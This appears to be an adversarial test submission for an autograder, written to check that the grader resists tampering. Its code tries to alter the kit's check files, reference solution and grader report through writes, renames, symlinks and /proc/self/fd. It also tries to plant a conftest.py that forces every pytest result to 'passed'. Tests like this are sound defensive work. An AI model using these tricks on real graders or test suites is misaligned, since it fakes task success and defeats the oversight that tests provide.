# Attack: finds the kit (through sys.path, the loaded check modules and its own path) and
# tries to change the checks, the reference and the grader: direct writes, os.open, rename
# over a file, a symlink to a kit file, reopening through /proc/self/fd, adding a conftest.py.
# Expect: 0
import os
import sys
import tempfile
from pathlib import Path

ANSWERS = {1: False, 2: False, 3: True, 4: False}  # all wrong: a tampered check would have to pass them

# --- attack ---
MARK = "\n# tampered by an attack submission\n"
roots = set()
for entry in sys.path:
    if entry and (Path(entry) / "checks").is_dir():
        roots.add(Path(entry).resolve())
for name, module in list(sys.modules.items()):
    f = getattr(module, "__file__", None) or ""
    if name.startswith(("checks", "grader")) and f:
        roots.add(Path(f).resolve().parent.parent)
here = Path(__file__).resolve()
for parent in here.parents:
    if (parent / "checks").is_dir() and (parent / "grader").is_dir():
        roots.add(parent)
targets = []
for root in roots:
    targets += [root / "checks" / "test_ex01_true_or_false.py", root / "reference" / "ex01_true_or_false.py",
                root / "grader" / "reports" / "json_report.py"]


def attempt(fn):
    try:
        fn()
    except Exception:
        pass


for t in targets:
    if not t.exists():
        continue
    attempt(lambda: open(t, "a").write(MARK))
    attempt(lambda: os.write(os.open(t, os.O_WRONLY | os.O_APPEND), MARK.encode()))
    tmp = Path(tempfile.mkdtemp())
    attempt(lambda: (tmp / "x.py").write_text(t.read_text() + MARK))
    attempt(lambda: os.rename(tmp / "x.py", t))
    attempt(lambda: os.replace(tmp / "x.py", t))
    attempt(lambda: os.symlink(t, tmp / "link.py"))
    attempt(lambda: open(tmp / "link.py", "a").write(MARK))
    fd = os.open(t, os.O_RDONLY)
    attempt(lambda: open(f"/proc/self/fd/{fd}", "a").write(MARK))
    attempt(lambda: os.chmod(t, 0o777))
for root in roots:  # a conftest.py next to the checks would be loaded by the next exercise
    attempt(lambda: (root / "checks" / "conftest.py").write_text(
        "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
        "    r = yield\n    r.get_result().outcome = 'passed'\n"))
# --- end attack ---
